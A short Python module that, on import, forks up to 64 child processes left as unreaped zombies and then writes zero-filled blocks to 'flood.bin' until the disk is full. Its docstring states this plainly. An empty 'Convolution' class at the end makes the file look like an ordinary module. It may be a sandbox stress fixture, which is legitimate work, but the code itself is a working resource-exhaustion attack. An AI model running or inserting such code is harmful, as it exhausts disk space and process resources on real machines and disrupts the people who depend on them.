"""Forks until refused, floods its folder until the disk is full, leaves zombies."""
import os

children = 0
while children < 64:
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        os._exit(0)  # never reaped by its parent: a zombie
    children += 1
try:
    with open("flood.bin", "wb") as flood:
        while True:
            flood.write(b"\0" * (1 << 20))
except OSError:
    pass


class Convolution:
    pass
